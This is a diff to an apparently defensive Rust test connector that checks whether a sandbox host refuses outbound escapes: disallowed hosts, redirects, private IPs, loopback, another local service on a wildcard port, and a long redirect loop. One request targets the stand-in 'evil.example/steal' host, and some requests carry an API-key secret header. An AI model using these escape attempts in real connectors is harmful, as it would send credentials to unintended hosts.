@@ -1,7 +1,9 @@
 //! Proves that every way out of the egress grant is refused: a host the
 //! connection does not allow, a redirect to such a host (followed by hand),
-//! an IP literal of a private address, and a name that resolves to
-//! loopback. `read` reports what happened to each attempt as one record.
+//! an IP literal of a private address, a name that resolves to loopback,
+//! and another local service behind a wildcard port. With `follow_loop`, it
+//! follows a partner's redirect loop by hand instead, as far as the host
+//! lets it. `read` reports what happened to each attempt as one record.
 
 use serde::Deserialize;
 use serde_json::json;
@@ -18,6 +20,37 @@ weir_sdk::export_connector!(HttpEscape);
 struct Config {
     /// The partner simulator, which the connection allows.
     sim_url: String,
+    /// Another local service, reachable only through a wildcard port.
+    #[serde(default)]
+    other_url: Option<String>,
+    /// Follow `/v1/redirect/loop` instead of trying the ways out.
+    #[serde(default)]
+    follow_loop: bool,
+}
+
+/// Redirects the connector follows at most, far more than the host allows.
+const LOOP_HOPS: u32 = 1_000;
+
+/// Follows the simulator's redirect loop until a request fails.
+fn follow_loop(config: &Config) -> serde_json::Value {
+    let mut url = format!("{}/v1/redirect/loop", config.sim_url);
+    for answered in 0..LOOP_HOPS {
+        let response = Request::get(&url)
+            .secret_header("x-api-key", "api_key")
+            .send();
+        match response {
+            Ok(response) => match response.header("location") {
+                Some(location) => url = format!("{}{location}", config.sim_url),
+                None => {
+                    return json!({ "answered": answered + 1, "ended": format!("status {}", response.status) });
+                }
+            },
+            Err(error) => {
+                return json!({ "answered": answered, "ended": format!("error: {error}") });
+            }
+        }
+    }
+    json!({ "answered": LOOP_HOPS, "ended": "never" })
 }
 
 fn outcome(result: Result<weir_sdk::http::Response>) -> String {
@@ -41,6 +74,12 @@ impl Connector for HttpEscape {
     }
 
     fn read(config: &Config, _request: ReadRequest) -> Result<Page> {
+        if config.follow_loop {
+            return Ok(Page::new(
+                vec![Record::from_serialize("attempts", &follow_loop(config))?],
+                Checkpoint::from_json(1, "{}"),
+            ));
+        }
         let disallowed = outcome(Request::get("http://evil.example/steal").send());
 
         let redirect = Request::get(format!("{}/v1/redirect", config.sim_url))
@@ -59,7 +98,16 @@ impl Connector for HttpEscape {
                 .send(),
         );
 
+        let other_port = config.other_url.as_ref().map(|other| {
+            outcome(
+                Request::get(format!("{other}/v1/contacts"))
+                    .secret_header("x-api-key", "api_key")
+                    .send(),
+            )
+        });
+
         let attempts = json!({
+            "other_port": other_port,
             "disallowed": disallowed,
             "redirect_status": redirect.status,
             "redirect_followed": followed,
